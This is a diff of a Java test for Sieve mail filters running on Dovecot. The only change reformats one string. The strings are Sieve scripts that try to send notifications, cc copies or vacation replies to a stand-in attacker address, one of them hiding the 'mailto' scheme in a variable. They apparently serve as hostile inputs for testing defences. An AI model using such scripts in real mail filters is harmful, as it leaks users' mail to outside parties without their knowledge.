@@ -267,7 +267,8 @@ class SieveOnDovecotTest {
                         + "notify :message \"x\" \"${m}:evil@evil.example\";\n",
                 "require [\"enotify\",\"variables\"];\nset :lower \"m\" \"MAILTO:EVIL@EVIL.EXAMPLE\";\n"
                         + "notify \"${m}\";\n",
-                "require [\"enotify\"];\n\nnotify :from \"ann@a.example\" \"mailto:ann@a.example?cc=evil@evil.example\";\n",
+                "require [\"enotify\"];\n\n"
+                        + "notify :from \"ann@a.example\" \"mailto:ann@a.example?cc=evil@evil.example\";\n",
                 "require [\"vacation\"];\n\nvacation :addresses [\"evil@evil.example\"] \"away\";\n");
         for (String script : scripts) {
             Path f = files.resolve("evil.sieve");
